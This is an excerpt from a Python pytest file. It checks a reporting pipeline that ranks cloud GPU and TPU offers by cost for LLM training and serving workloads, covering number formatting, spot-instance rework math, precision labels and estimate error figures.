                                                                               "-0.500"]


def test_a_multiple_is_written_to_three_significant_figures_at_every_size(fresh_db):
    # one rule (figures): 10.72 and 10.44 were "11x" and "10x" beside "8.43x"; 1,204.4 stays whole, 0.6982 gains a
    # figure; 99.96 rounds to 100 at three figures: whole (not "100.0x"); marts.changes writes a price move's multiple
    # with figures_text, the same
    cases = {10.72: "10.7x", 10.44: "10.4x", 8.43: "8.43x", 1204.4: "1,204x", 0.6982: "0.698x", 99.96: "100x"}
    assert {x: ratio(x) for x in cases} == cases
    for x, text in cases.items():
        assert fresh_db.execute(f"select figures_text({x!r}) || 'x'").fetchone()[0] == text, x


def test_one_page_writes_one_quantity_one_way(flow_run):
    """A time in the hourly-price section as the Full ranking writes it, every count thousands separated."""
    pretrain = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    # p6-b200 spot: 31,749.47 min / 60 = 529.16 h ("529 h", as its Full ranking row); 4,096 x 529.158 = 2,167,431
    # chip-hours; p5 spot: 61,874.97 min / 60 = 1,031.25 h, "1,031 h"
    assert ("the run takes 2,167,431 chip-hours (4,096 chips x 529 h) against 4,223,998 (4,096 x 1,031 h)."
            in pretrain)
    assert _ranking_row(pretrain, 2, "aws p6-b200.48xlarge", "spot")[8:10] == [
        "4,096 (512 instances)", "529 h (10.52% redone)"]
    # (tpu-v5p-8 on demand, "4,096 (1,024 instances)", is past the deadline since its int8 MLPerf runs are estimated
    # at int8: 2,365 h of 2,160)
    assert _ranking_row(pretrain, 20, "aws p5.4xlarge", "on_demand")[8] == "4,096 (4,096 instances)"
    # gpt3: trn1.32xlarge spot 620.83 min = 10.347 h, "10.3 h" as in the table (was "620.83 min")
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    assert "the run takes 438 chip-hours (512 chips x 51.33 min) against 5,298 (512 x 10.3 h)." in gpt3
    # the chat pages' TTFT exclusion: 1,024 input tokens, 4,791 ms, SLO 2,000 ms, as "1,024 input" elsewhere
    for name in ("llama31-8b-chat-large", "llama31-8b-chat-small"):
        page = (flow_run.reports / f"{name}.md").read_text()
        assert "| prefill of 1,024 tokens takes 4,791 ms, above the TTFT SLO of 2,000 ms |" in page, name
    # b200 on demand against trn1.32xlarge: 14.24 / 1.344 = 10.595, "10.6x" (was "11x" beside "8.43x")
    assert "costs 10.6x as much per chip-hour as **aws trn1.32xlarge**" in (
        flow_run.reports / "llama31-405b-chat.md").read_text()


def test_a_training_pages_full_ranking_gives_each_rows_precision(flow_run):
    """As the serving tables do: gpt3-175b-pretrain asks bf16, and its rank 2, p5.48xlarge spot, is MLPerf Training's
    gpt3 result of NVIDIA Eos_n64, measured at the fp8 its submission trained at (models.yaml trained_at); rank 1,
    tpu-v6e-8 spot, is calibrated at bf16; MLPerf's llama2_70b_lora declares no precision: "not declared"."""
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    header = _ranking_row(gpt3.replace("| rank | offer |", "| 0 | header |"), 0, "header", "term")
    assert header[6:9] == ["chip-hour rank", "precision", "chips"]
    assert _ranking_row(gpt3, 1, "gcp tpu-v6e-8", "spot")[7] == "bf16"
    assert _ranking_row(gpt3, 2, "aws p5.48xlarge", "spot")[7] == "fp8"
    lora = (flow_run.reports / "llama2-70b-lora-finetune.md").read_text()
    assert _ranking_row(lora, 1, "aws p5.48xlarge", "spot")[7] == "not declared"


def test_a_rows_label_writes_its_counts_thousands_separated(flow_run):
    pretrain = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    # 4,096 chips on p5.4xlarge (1 chip each): 4,096 instances, twice in its label (was "4096"); the calibrated MFU
    # 0.467 x 0.95^log2(4,096) = 0.467 x 0.95^12 = 0.467 x 0.540360 = 0.252
    label = _ranking_row(pretrain, 20, "aws p5.4xlarge", "on_demand")[-1]
    assert "0.252 effective at 4,096 instances; no network figure for p5.4xlarge: flat 0.95 per doubling of 4,096 " \
        "instances (declared)" in label
    # p5.48xlarge's network, 3,200 Gbit/s (instances.yaml)
    assert "over 3,200 Gbit/s" in _ranking_row(pretrain, 3, "aws p5.48xlarge", "spot")[-1]
    # the 8B chat's pick: TP 4, batch 4,096 (was "batch 4096")
    chat = (flow_run.reports / "llama31-8b-chat-large.md").read_text()
    assert "roofline on mi300x-192gb specs: fp8, TP 4, batch 4,096;" in _ranking_row(
        chat, 1, "azure Standard_ND96isr_MI300X_v5", "on_demand")[-1]


def test_the_lora_pages_energy_tells_h100_from_h200(flow_run):
    # llama2-70b-lora-finetune, 8 chips at 700 W TDP, PUE 1.2: H100 (Eos, 28.1628 min) on spot with 0.0205% redone:
    # 28.1686 min / 60 = 0.469476 h x 8 x 0.7 kW x 1.2 = 3.1549 kWh -> "3.15"; H200 (24.6892 min) on demand:
    # 0.411486 h x 8 x 0.7 x 1.2 = 2.7652 kWh -> "2.77" (both were "3", a 14% difference lost)
    page = (flow_run.reports / "llama2-70b-lora-finetune.md").read_text()
    assert _ranking_row(page, 1, "aws p5.48xlarge", "spot")[12] == "3.15"
    assert _ranking_row(page, 9, "aws p5en.48xlarge", "on_demand")[12] == "2.77"


def test_a_run_of_tens_of_hours_shows_its_time_to_train_to_three_figures(flow_run):
    # gpt3-175b-pretrain on 512 trainium1 of trn1.32xlarge (family default MFU 0.35, bf16 peak 190 TFLOP/s; the
    # gradient all-reduce hides, scaling 1): 6 x 175e9 x 1.2e9 tokens = 1.26e21 FLOP / (512 x 190e12 x 0.35 =
    # 3.4048e16 FLOP/s) = 37,006.6 s = 616.78 min = 10.2796 h: "10.3 h" on demand (was "10 h", 2.7% short); on spot
    # its 32 instances redo 32 x 0.2 / 730 x 0.75 = 0.6575%: 10.2796 x 1.006575 = 10.3472 h, "10.3 h"
    page = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    assert _ranking_row(page, 4, "aws trn1.32xlarge", "spot")[9] == "10.3 h (0.66% redone)"
    assert _ranking_row(page, 31, "aws trn1.32xlarge", "on_demand")[9] == "10.3 h"
    # tpu-v6e-8 on demand (rank 7) of llama31-70b-pretrain-15t: 1,196.94 h, whole hours as before
    page = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    assert _ranking_row(page, 7, "gcp tpu-v6e-8", "on_demand")[9] == "1,197 h"


def test_a_spot_pick_says_what_its_reclaims_cost_and_its_time_to_train_counts_the_rework(flow_run):
    page = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    # the pick, tpu-v6e-8 spot on 512 instances for 1,196.94 h: 512 x 0.2 / 730 x 1,196.94 = 167.9 reclaims; each
    # redoes half the hourly checkpoint interval plus the 0.25 h restart: 512 x 0.2 / 730 x 0.75 = 0.105205, 10.52%;
    # GCP publishes no rate: AWS's 0.2 is a declared assumption (instances.yaml)
    decision = next(line for line in page.splitlines() if line.startswith("**Decision**"))
    assert ("(likely 1,875,839.74 to 4,704,311.30; price from gcp_billing as of 2026-10-01; benchmark as of "
            "2026-11-01). On spot, 167.9 reclaims are expected and 10.52% of the run is "
            "redone (0.2 reclaims an instance-month: declared-assumption, no published rate: AWS's top band "
            "assumed). Runner-up ") in decision
    # the time to train is the completed run's, rework included (its USD counts it): 1,196.94 h x 1.105205 =
    # 1,322.86 h; the same offer on demand redoes nothing: 1,197 h
    assert _ranking_row(page, 1, "gcp tpu-v6e-8", "spot")[9] == "1,323 h (10.52% redone)"
    assert _ranking_row(page, 7, "gcp tpu-v6e-8", "on_demand")[9] == "1,197 h"
    # offline work on spot: a reclaim of the unit's one instance costs a 0.25 h restart: 1 x 0.2 / 730 x 0.25 =
    # 0.0000685, 0.0068% of its hours (AWS's own rate: the Spot Instance Advisor's top band)
    batch = (flow_run.reports / "llama2-70b-batch.md").read_text()
    assert ("0.116 USD per million output tokens (price from aws_spot as of 2026-11-20; benchmark as of 2024-08-28). "
            "On spot, restarts after reclaims lose 0.0068% of its hours (0.2 "
            "reclaims an instance-month: aws-spot-instance-advisor, lower edge of the advisor's top band, &gt;20%). "
            "Runner-up ") in batch


def test_a_service_on_spot_says_it_pays_for_a_spare_unit_and_a_flat_rework_says_it_is_the_fallback():
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision
    service = {"outcome_metric": "usd_per_million_successful_requests", "pick_cloud": "gcp",
               "pick_instance_type": "a3-highgpu-8g", "pick_region": "us-central1", "pick_pricing_term": "spot",
               "pick_precision": "fp8", "pick_basis": "measured", "pick_outcome_value": 604.18,
               "pick_outcome_low": None, "pick_outcome_high": None, "runner_up_offer_id": None,
               "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 1.5, "pick_spare_deployments": 1,
               "pick_reclaims_per_instance_month": 0.2, "pick_reclaim_rate_source": "declared-assumption",
               "pick_reclaim_rate_note": "no published rate: AWS's top band assumed"}
    assert ("604.18 USD per million successful requests. On spot, it pays for 1 spare deployment unit so that a "
            "reclaim leaves the peak's capacity standing (0.2 reclaims an instance-month: declared-assumption, no "
            "published rate: AWS's top band assumed). No other offer") in str(decision(service))
    # a cloud without a declared rate: the term's flat 15% (instances.yaml interruption_overhead), said to be that
    flat = {**service, "outcome_metric": "completed_run_usd", "pick_cloud": "neo", "pick_spare_deployments": None,
            "pick_interruption_overhead": 0.15, "pick_expected_interruptions": None,
            "pick_reclaims_per_instance_month": None}
    assert ("604.18 USD per completed run. On spot, 15.00% of the run is redone (the term's flat overhead, a declared "
            "fallback: no reclaim rate for neo). No other offer") in str(decision(flat))
    # a short run on one instance: 1 x 0.2 / 730 x 0.1 h = 2.7e-5 reclaims, which 4 decimals would show as 0.0000;
    # its redone share, at least the rework up to the first checkpoint, is not that small (0.02%)
    short = {**flat, "pick_cloud": "aws", "pick_interruption_overhead": 0.0002, "pick_expected_interruptions": 2.7e-5,
             "pick_reclaims_per_instance_month": 0.2}
    assert "On spot, fewer than 0.0001 reclaims are expected and 0.02% of the run is redone (" in str(decision(short))


def test_the_index_gives_the_dates_of_the_rows_each_source_landed_oldest_to_newest(flow_run, tmp_path):
    index = (flow_run.reports / "index.md").read_text()
    # azure_retail's six files (catalogs/sources.yaml): eastus.page-cpu.json of 2026-07-30 the oldest, eastus2.page-1
    # and eastus.page-mi300x of 2026-09-27 the newest; ops.source_loads keeps only the newest (its data_as_of)
    assert "| azure_retail | azure_retail | landed | 2026-07-30 to 2026-09-27 | 6 | 15 | 15 | 0 | — |" in index
    # MLPerf Training's v4.0 (2024-06-12) and v5.0 (2025-06-04) files; a source whose rows share one date: that date
    assert "| mlperf_training_snapshot | mlperf_training | landed | 2024-06-12 to 2025-06-04 | 2 |" in index
    assert "| aws_spot | aws_spot | landed | 2026-11-20 | 3 |" in index
    # a stale source reads its last good run's rows: their dates; a load with no row kept says its own date, never a
    # blank (the rows of azure_retail gone: its newest file's 2026-09-27)
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update ops.source_loads set status = 'stale', stale_since = as_of where source_id = 'aws_spot'")
        con.execute("delete from raw.azure_retail")
        index = reports.render(con, AS_OF)["index.md"]
    finally:
        discard(con)
    assert "| azure_retail | azure_retail | landed | 2026-09-27 | 6 |" in index
    assert f"| aws_spot | aws_spot | stale, last loaded by the run of {AS_OF} | 2026-11-20 | 3 |" in index


def test_the_index_quotes_for_its_estimated_picks_the_error_of_their_own_kind_of_estimate(flow_run):
    index = (flow_run.reports / "index.md").read_text()
    # the snapshot's estimated picks (MI300X for llama31-405b-chat and llama31-8b-chat-large, inf2 for
    # llama31-8b-chat-small) are uncalibrated: their error is the uncalibrated estimates' |ratio - 1| over the 25
    # GPU serving comparisons not precision-doubtful (27 - 2), sorted 0.196, 0.281, 0.320, 0.381, 0.393, 0.453,
    # 0.472, 0.480, 0.487, 0.510, 0.626, 0.638, 0.702 (the 13th: the median, 70%), ..., 1.400 (the worst, 140%),
    # not the 3.2% of the calibrated ones; inferentia has no comparison, so it borrows every family's (those 25).
    # The three TPU training picks (calibrated or scaled) take the 8 TPU leave-one-out errors 0.007, 0.111, 0.133,
    # 0.348, 0.359, 0.372, 0.374, 0.571: median (0.348 + 0.359) / 2 = 0.353, 35%; worst 57% (TPU v5p's MaxText
    # figure predicted from Google's int8 gpt3 runs)
    assert ("The picks above that rest on an estimate, against the back-test of their own kind of estimate "
            "(uncalibrated for an estimated pick, leave-one-out calibrated for a calibrated or scaled one): serving, "
            "gpu, uncalibrated (llama31-405b-chat, llama31-8b-chat-large): 70% median error, worst 140%, over 25 "
            "comparisons; serving, every family, uncalibrated (llama31-8b-chat-small: fewer than 2 inferentia "
            "comparisons of this kind): 70% median error, worst 140%, over 25 comparisons; training, tpu, calibrated "
            "(gpt3-175b-pretrain, llama31-70b-pretrain-15t, llama31-8b-pretrain-1t): 35% median error, worst 57%, "
            "over 8 comparisons.") in index
    assert "3.2%" not in index  # the calibrated GPU serving figure backs no pick of this run



def test_the_index_quotes_no_error_where_too_few_comparisons_give_a_pick_no_likely_range(flow_run, tmp_path):
    # leave the training back-test one leave-one-out calibrated comparison (tpu-v6e on llama-3.1-8b, error 0.111): the
    # TPU family has 1, fewer than 2, and so has the phase, so by int_estimate_bands' rule the three calibrated TPU
    # picks would have no likely range (their pages would show a dash). The index said "11% median error, worst 11%,
    # over 1 comparison"; now it says there is no range, and why
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("update marts.estimate_backtest set loo_measurements = 0 where phase = 'training' "
                    "and not (accelerator_id = 'tpu-v6e' and model_id = 'llama-3.1-8b')")
        index = reports.render(con, AS_OF)["index.md"]
    finally:
        discard(con)
    assert ("; training, every family, calibrated (gpt3-175b-pretrain, llama31-70b-pretrain-15t, llama31-8b-pretrain-1t"
            ": fewer than 2 tpu comparisons of this kind): no likely range: 1 comparison, fewer than the 2 a range "
            "needs.") in index
    assert "over 1 comparison" not in index

def test_a_pick_that_is_also_the_cheapest_chip_hour_shows_no_reversal(flow_run):
    index = (flow_run.reports / "index.md").read_text()
    # llama31-8b-chat-small: inf2.xlarge on demand is rank 1 by outcome and chip-hour rank 1 (0.758 USD)
    # both estimated, uncalibrated: their likely ranges (x 0.223 to x 2.399605, the GPU serving back-test's
    # uncalibrated cost ratios, lent to every family) overlap, and the pick's measurement would settle it (the two
    # bands are equally wide relative to their outcome)
    assert ("- **[llama31-8b-chat-small](llama31-8b-chat-small.md)**: pick aws inf2.xlarge (us-east-1, on_demand, "
            "fp8, estimated): 212.74 USD per million successful requests (likely 47.47 to 510.49; price from "
            "aws_pricing as of 2026-09-10). Runner-up aws trn1.2xlarge (us-east-1, on_demand, fp8, estimated): 377.03 "
            "(likely 84.14 to 904.73; same price source and date), 77% more. "
            "**Too close to call**: the two overlap within the estimates' error; a measured run of this workload on "
            "inferentia2 (aws inf2.xlarge) would settle it. The pick is also the cheapest chip-hour (0.758 USD): ranking "
            "by the hourly price picks the same offer, no dearer per outcome.") in index
    assert "| aws inf2.xlarge (on_demand, 0.758) | nothing (same offer) |" in index
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        row = con.execute("select chip_hour_pick_extra_usd, chip_hour_pick_ratio, is_chip_hour_pick_same_offer "
                          "from marts.decisions where workload_id = 'llama31-8b-chat-small'").fetchall()
    finally:
        con.close()
    assert row == [(0.0, 1.0, True)]


def test_the_cheapest_chip_hour_is_said_to_be_of_the_ranked_candidates_where_cheaper_ones_were_excluded(flow_run):
    index = (flow_run.reports / "index.md").read_text()
    page = (flow_run.reports / "llama31-70b-pretrain-15t.md").read_text()
    # llama31-70b-pretrain-15t buys spot; its pick, tpu-v6e-8 spot at 0.544 USD per chip-hour, is the cheapest chip-hour
    # it ranks, but 6 spot offers are cheaper and excluded: trn1.32xlarge 0.152, trn1n.32xlarge 0.169,
    # tpu-v5litepod-8 0.245, trn1.2xlarge 0.250 and p4d.24xlarge 0.309 miss the 2,160 h deadline (trn1.32xlarge
    # needs 6,480 h on 4,096 chips), inf2.48xlarge 0.382 does not train
    # the pick is priced by gcp_billing; the excluded trn1.32xlarge by aws_spot, named with its date
    sentence = ("The pick is also the cheapest chip-hour among the ranked candidates (0.544 USD): ranking them by the "
                "hourly price picks the same offer, no dearer per outcome. 6 offers cheaper per chip-hour are excluded, "
                "the cheapest aws trn1.32xlarge (us-east-1, spot) at 0.152 USD per chip-hour (price from aws_spot as of "
                "2026-11-20; needs 6,480 h on 4,096 chips; the deadline is 2,160 h).")
    assert sentence in index and sentence in page
    # llama31-8b-chat-small buys on demand only: the spot offers cheaper than inf2.xlarge's 0.758 are no chip-hour it
    # could choose, and inf2.xlarge itself is excluded only at int8 (ranked at fp8): nothing cheaper is excluded
    assert ("inferentia2 (aws inf2.xlarge) would settle it. The pick is also the cheapest chip-hour (0.758 USD): "
            "ranking by the hourly price picks the same offer, no dearer per outcome.\n") in index
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        rows = con.execute("select workload_id, cheaper_excluded_offers, cheapest_excluded_instance_type, "
                           "cheapest_excluded_usd_per_chip_hour from marts.decisions "
                           "where workload_id in ('llama31-70b-pretrain-15t', 'llama31-8b-chat-small') "
                           "order by workload_id").fetchall()
    finally:
        con.close()
    assert rows == [("llama31-70b-pretrain-15t", 6, "trn1.32xlarge", pytest.approx(0.151875)),
                    ("llama31-8b-chat-small", 0, None, None)]


def test_a_measured_result_the_workload_keeps_out_is_named_with_what_excludes_it(flow_run):
    page = (flow_run.reports / "llama2-70b-batch.md").read_text()
    # the B200's MLPerf v5.1 llama2-70b-99 results meet the workload's 99.0% accuracy target; what keeps them out is
    # their precision, fp4, not among the workload's precisions (bf16, fp8): the reason says that, not an accuracy floor
    assert ("| fp4 is not among the precisions the workload lists (bf16, fp8 in workloads.yaml) | aws p6-b200.48xlarge "
            "us-east-1 on_demand (fp4), ") in page
    assert "accuracy floor" not in page
    # too close to call between the measured pick and the estimated fp8 B200 runner-up: the settling measurement is
    # asked for at fp8, and the measured B200 result the warehouse holds (Offline, the workload's scenario, first) is
    # named with why it is not ranked
    assert ("a measured run of this workload on b200-sxm-180gb at fp8 (aws p6-b200.48xlarge) would settle it: the "
            "warehouse holds a measured result of b200-sxm-180gb on this task, MLPerf Inference v5.1 llama2-70b-99 "
            "Offline at fp4 (Lenovo ThinkSystem SR680a V3 (8x B200-SXM-180GB, TensorRT)), not ranked because fp4 is "
            "not among the precisions the workload lists (bf16, fp8 in workloads.yaml).") in page



def test_the_unranked_measurement_named_is_of_the_settling_candidates_precision_first(flow_run, tmp_path):
    from flows.paths import SQL_DIR

    # llama2-70b-batch is too close to call; the fp8 B200 runner-up would settle it. The warehouse holds the B200's
    # fp4 results (Offline, the workload's scenario, is named). Add one at fp8 in the Server scenario, kept out by its
    # accuracy target: it is a measurement of the very setup asked for, so it is the one named, though not of the
    # workload's scenario and after the fp4 one in text order (the old order named the fp4 Offline result)
    con = open_copy(flow_run.warehouse, tmp_path / "w.duckdb")
    try:
        con.execute("""
            insert into intermediate.int_serving_results_unranked by name
            select 'llama2-70b-batch' as workload_id, 'b200-sxm-180gb' as accelerator_id, 'fp8' as precision,
                   false as is_workload_scenario,
                   'MLPerf Inference v5.1 llama2-70b-99 Server at fp8 (Zeta B200 box)' as measurement,
                   'its accuracy target, 98.0%, is below the workload''s 99.0%' as unranked_reason
            """)
        con.execute("set variable as_of = ?", [AS_OF.isoformat()])
        con.execute("delete from marts.decisions where as_of = ?", [AS_OF])
        con.execute(f"insert into marts.decisions by name {(SQL_DIR / 'marts' / 'decisions.sql').read_text()}")
        [decision] = con.execute("select runner_up_precision, settle_candidate_id = runner_up_candidate_id, "
                                 "settle_unranked_measurement, settle_unranked_reason from marts.decisions "
                                 "where workload_id = 'llama2-70b-batch'").fetchall()
        page = reports.render(con, AS_OF)["llama2-70b-batch.md"]
    finally:
        discard(con)
    assert decision == ("fp8", True, "MLPerf Inference v5.1 llama2-70b-99 Server at fp8 (Zeta B200 box)",
                        "its accuracy target, 98.0%, is below the workload's 99.0%")
    assert ("a measured run of this workload on b200-sxm-180gb at fp8 (aws p6-b200.48xlarge) would settle it: the "
            "warehouse holds a measured result of b200-sxm-180gb on this task, MLPerf Inference v5.1 llama2-70b-99 "
            "Server at fp8 (Zeta B200 box), not ranked because its accuracy target, 98.0%, is below the workload's "
            "99.0%.") in page

def test_a_page_that_ranks_fp16_says_once_that_it_counts_as_the_bf16_its_workload_lists(flow_run):
    """The review's finding: llama2-70b-chat and -batch pick fp16 results while the page says fp4 "is not among the
    precisions the workload lists (bf16, fp8 in workloads.yaml)". workloads.yaml lists bf16 and fp8 for both;
    precision_class puts fp16 in the bf16 class; bytes_per_value('fp16') = 2, 16 bits."""
    sentence = "Precisions the workload lists: bf16, fp8 (workloads.yaml); fp16 counts as bf16 (the same 16-bit width)."
    for workload_id in ("llama2-70b-chat", "llama2-70b-batch"):
        page = (flow_run.reports / f"{workload_id}.md").read_text()
        assert page.count(sentence) == 1, workload_id
        # right before the Decision that picks an fp16 result
        assert page.index(sentence) < page.index("**Decision**: pick ") < page.index(", fp16, measured)")
    # the Llama-3.1 services list the same precisions and rank no fp16: nothing to say
    for workload_id in ("llama31-8b-chat-small", "llama31-8b-chat-large", "llama31-405b-chat", "gpt3-175b-pretrain"):
        assert "Precisions the workload lists" not in (flow_run.reports / f"{workload_id}.md").read_text()
    # the back-test page: the factor of the bf16 class, fitted on the fp16 results the comparisons below list
    estimates = (flow_run.reports / "estimates.md").read_text()
    assert "| serving | h100-sxm-80gb | bf16 (fp16 results) | llama-2-70b | 4.34 | 5 (2) |" in estimates
    assert "| serving | h100-sxm-80gb | fp16 | llama-2-70b | 8 | 3,066.0 |" in estimates
    assert "| serving | h200-sxm-141gb | fp8 | llama-2-70b | 2.72 | 2 (2) |" in estimates  # named as measured
    assert "| training | tpu-v6e | \\* | \\* | 1.05 | 3 (3) |" in estimates
    # factors and their ranges to three significant figures, as the ranking rows' labels write them (0.550 was
    # "0.55", its range "0.52 to 0.59", beside labels' "x 3.609")
    assert ("| serving | h100-sxm-80gb | fp8 | llama-3.1-8b | 0.550 | 2 (1; not back-tested) | MLPerf Inference | "
            "0.517 to 0.586 | no |") in estimates
    # the label of a row the fp16-fitted factor calibrates names its factor as estimates.md does: 3.61, bf16 (fp16
    # results); the L40S's 3.6094 was "x 3.609 ... of l40s-48gb at bf16"
    batch = (flow_run.reports / "llama2-70b-batch.md").read_text()
    assert ("efficiencies x 3.61 fitted from 2 MLPerf Inference results of l40s-48gb at bf16 (fp16 results) on this "
            "model as of 2024-08-28 (newest) (past the chip's peak") in batch
    # a factor fitted at the precision it calibrates says nothing more (H200 fp8: 2.72 from fp8 results; not on a
    # page: its rows rank below the top ones or are measured)
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        labels = {label for (label,) in con.execute(
            "select benchmark_label from intermediate.int_inference_estimates_computed "
            "where basis = 'calibrated' and accelerator_id = 'h200-sxm-141gb' and precision = 'fp8'").fetchall()}
    finally:
        con.close()
    assert labels and all("; efficiencies x 2.72 fitted from 2 MLPerf Inference results of h200-sxm-141gb at fp8 "
                          "on this model as of " in label and "(newest) (past" in label for label in labels), labels


def test_the_back_test_page_names_a_declared_training_precision_and_its_source(flow_run):
    """Google's TPU v5p gpt3 runs are estimated at the int8 their MaxText scripts train at (models.yaml trained_at):
    6 x 175e9 x 1,207,959,552 tokens on 512 chips of 128 instances, 0.97^7 = 0.807983 lost to scaling, at 918 x 0.45:
    1.268357e21 / (512 x 918e12 x 0.45 x 0.807983) = 7,421.9 s = 123.7 min against the 114.8 measured (it was 247.4
    at the bf16 peak); a result no declaration covers still says its precision is assumed (none on the snapshot: the
    H100's Eos_n64 is declared fp8, as assumed before)."""
    estimates = (flow_run.reports / "estimates.md").read_text()
    assert ("| training | tpu-v5p | int8 (models.yaml trained_at: mlperf-training-v4.0-google-gpt3) | gpt-3-175b | 512 | "
            "114.8 | 123.7 |") in estimates
    assert ("| training | h100-sxm-80gb | fp8 (models.yaml trained_at: mlperf-training-v4.0-nvidia-gpt3) | gpt-3-175b | "
            "512 | 50.7 | 70.1 |") in estimates
    assert "assumed: MLPerf declares none" not in estimates
    # TPU v5p's training factor from the 4 int8 runs and MaxText's bf16 Llama-2-70B: 1.20 (2.08 at the bf16 peak)
    assert "| training | tpu-v5p | \\* | \\* | 1.20 | 5 (2) | MLPerf Training, published MFU | 1.08 to 1.72 | no |" in (
        estimates)


def test_a_calibrated_row_whose_factor_comes_from_one_setup_says_its_range_is_not_back_tested(flow_run):
    """The review's finding: llama2-70b-chat's g6e.12xlarge (L40S, calibrated) showed 822.61 to 1,289.48, the GPU
    serving calibrated band (1,030.42 x 0.798322 and x 1.251410, 13 leave-one-out comparisons of other chips), as if
    tested; the L40S factor 3.61 comes from one setup (Fujitsu PRIMERGY CDI, v4.1, Offline and Server), so none of
    its comparisons could be predicted from another."""
    chat = (flow_run.reports / "llama2-70b-chat.md").read_text()
    assert ("| 8 | aws g6e.12xlarge (us-east-1) | on_demand | bf16 | 1,030.42 | 822.61 to 1,289.48 (not back-tested: "
            "factor from one setup) | 7 | calibrated |") in chat
    g6e = _ranking_row(chat, 8, "aws g6e.12xlarge", "on_demand")
    assert g6e[14] == "822.61 to 1,289.48 (not back-tested: factor from one setup)"
    # a tested calibration (the TPU v6e's, 3 setups) and an estimate keep their range alone
    gpt3 = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    assert _ranking_row(gpt3, 1, "gcp tpu-v6e-8", "spot")[11] == "338.17 to 848.08"
    assert _ranking_row(gpt3, 4, "aws trn1.32xlarge", "spot")[11] == "468.71 to 825.08"
    estimates = (flow_run.reports / "estimates.md").read_text()
    assert "| serving | l40s-48gb | bf16 (fp16 results) | llama-2-70b | 3.61 | 2 (1; not back-tested) |" in estimates
    assert "| serving | mi300x-192gb | fp8 | llama-2-70b | 1.43 | 4 (2) |" in estimates
    con = duckdb.connect(str(flow_run.warehouse), read_only=True)
    try:
        untested = con.execute("select distinct workload_id, instance_type, precision from marts.rankings "
                               "where band_untested order by all").fetchall()
        loo = dict(con.execute("select accelerator_id || ' ' || precision_class || ' ' || model_id, loo_comparisons "
                               "from marts.estimate_calibration where phase = 'serving'").fetchall())
    finally:
        con.close()
    # the three L40S rows, and no other: every other calibrated row's factor was tested
    assert untested == [("llama2-70b-batch", "g6e.12xlarge", "bf16"), ("llama2-70b-chat", "g6e.12xlarge", "bf16")]
    # the H100's 5 results of 2 setups each predicted from the other setup; the L40S's 2 of one setup, none
    assert (loo["h100-sxm-80gb bf16 llama-2-70b"], loo["l40s-48gb bf16 llama-2-70b"]) == (5, 0)


def test_a_workload_page_leads_with_a_short_table_and_links_its_ranking_as_csv(flow_run):
    page = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    short = page.split("## Top 10", 1)[1].split("\n## ", 1)[0]
    rows = [line for line in short.splitlines() if line.startswith("| ")]
    assert rows[0] == ("| rank | offer | term | precision | completed-run USD | likely range | chip-hour rank | "
                       "basis |")
    assert len(rows) == 1 + 10 and all(row.count(" | ") == 7 for row in rows)
    assert rows[1] == "| 1 | gcp tpu-v6e-8 (us-central1) | spot | bf16 | 531.15 | 338.17 to 848.08 | 6 | calibrated |"
    assert page.index("## Top 10") < page.index("## Where the hourly price disagrees") < page.index("## Full ranking")
    assert "[gpt3-175b-pretrain.csv](gpt3-175b-pretrain.csv)" in page


def test_a_measured_result_of_no_declared_precision_is_said_so_not_given_one(flow_run):
    # gpt3-175b-pretrain asks bf16; its runner-up, p5.48xlarge spot in us-east-1 at 560.62, is an MLPerf Training gpt3
    # result (such summaries declare no precision) of NVIDIA's, whose submission models.yaml declares trained at fp8
    # (trained_at): the short table says fp8 and the Decision says whence, beside what the workload asks
    page = (flow_run.reports / "gpt3-175b-pretrain.md").read_text()
    short = page.split("## Top 10", 1)[1].split("\n## ", 1)[0]
    assert "| 2 | aws p5.48xlarge (us-east-1) | spot | fp8 | 560.62 | — | 14 | measured |" in short
    assert ("Runner-up aws p5.48xlarge (us-east-1, spot, fp8, measured): 560.62 (price from aws_spot as of "
            "2026-11-20; benchmark as of 2024-06-12), 5.5% more. The runner-up was measured at fp8, what its "
            "submission trained at (models.yaml trained_at); the workload asks bf16. **Too close to call**") in page
    # llama2-70b-lora-finetune asks bf16 too; its pick (p5.48xlarge spot) and runner-up (p5en.48xlarge spot) are both
    # MLPerf Training llama2_70b_lora results
    lora = (flow_run.reports / "llama2-70b-lora-finetune.md").read_text()
    # priced from the pick's source as of its date (aws_spot, 2026-11-20): said in four words, not repeated
    assert ("Runner-up aws p5en.48xlarge (us-east-1, spot, measured): 6.815 (same price source and date; "
            "benchmark as of 2024-06-12), 42% more. Both were measured at "
            "precisions their benchmarks do not declare; the workload asks bf16. The pick's spot price") in lora
    # a serving workload asks no one training precision, and its measured results declare theirs: nothing said
    index = (flow_run.reports / "index.md").read_text()
    assert index.count("does not declare") == 0 and index.count("do not declare") == 1
    assert index.count("what its submission trained at (models.yaml trained_at)") == 1


def test_a_measured_pick_of_no_declared_precision_is_said_so_where_the_workload_asks_one():
    decision = reports.MARKDOWN.get_template("_sentences.j2").module.decision
    row = {"outcome_metric": "completed_run_usd", "pick_cloud": "aws", "pick_instance_type": "p5.48xlarge",
           "pick_region": "us-east-1", "pick_pricing_term": "spot", "pick_precision": None, "pick_basis": "measured",
           "pick_outcome_value": 4.807, "pick_outcome_low": None, "pick_outcome_high": None, "runner_up_offer_id": None,
           "is_chip_hour_pick_same_offer": True, "pick_usd_per_chip_hour": 1.28, "asked_precision": "b*f16"}
    # no runner-up: the pick's sentence, the asked precision escaped from data
    assert str(decision(row)) == (
        "pick aws p5.48xlarge (us-east-1, spot, measured): 4.807 USD per completed run. No other offer can run it. The "
        "pick was measured at a precision its benchmark does not declare; the workload asks b\\*f16. The pick is also the "
